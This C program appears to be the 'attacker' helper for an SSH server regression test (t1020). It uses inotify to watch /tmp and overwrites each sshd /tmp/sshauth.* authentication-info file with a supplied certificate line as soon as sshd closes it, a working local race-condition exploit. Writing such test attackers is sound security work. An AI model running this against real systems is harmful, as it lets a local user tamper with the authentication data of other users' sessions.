/* t1020's attacker: a process of the hotfix account that rewrites every new
 * SSH_USER_AUTH file (sshd's /tmp/sshauth.*) the moment sshd closes it, with
 * the certificate line given in argv[1]'s file. */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/inotify.h>
#include <time.h>
#include <unistd.h>

int
main(int argc, char **argv)
{
	char line[65536], ev[8192], done[64][64];
	int in, fd, nd = 0;
	ssize_t n, len;
	time_t end = time(NULL) + (argc > 2 ? 20 : 10);

	if (argc < 2 || (fd = open(argv[1], O_RDONLY)) < 0 || (len = read(fd, line, sizeof(line))) <= 0)
		return 2;
	close(fd);
	if ((in = inotify_init1(IN_NONBLOCK)) < 0 || inotify_add_watch(in, "/tmp", IN_CLOSE_WRITE) < 0)
		return 2;
	while (time(NULL) < end) {
		if ((n = read(in, ev, sizeof(ev))) <= 0) {
			usleep(200);
			continue;
		}
		for (char *p = ev; p < ev + n;) {
			struct inotify_event *e = (struct inotify_event *)p;
			int seen = 0;

			p += sizeof(*e) + e->len;
			if (e->len == 0 || strncmp(e->name, "sshauth.", 8) != 0)
				continue;
			for (int k = 0; k < nd; k++)
				if (strcmp(done[k], e->name) == 0)
					seen = 1;
			if (seen || nd == 64)
				continue;
			snprintf(done[nd++], sizeof(done[0]), "%s", e->name);
			{
				char path[128];

				snprintf(path, sizeof(path), "/tmp/%s", e->name);
				if ((fd = open(path, O_WRONLY | O_TRUNC | O_NOFOLLOW)) >= 0) {
					if (write(fd, line, (size_t)len) == len)
						printf("REWROTE %s\n", e->name);
					close(fd);
					fflush(stdout);
				}
			}
		}
	}
	return 0;
}
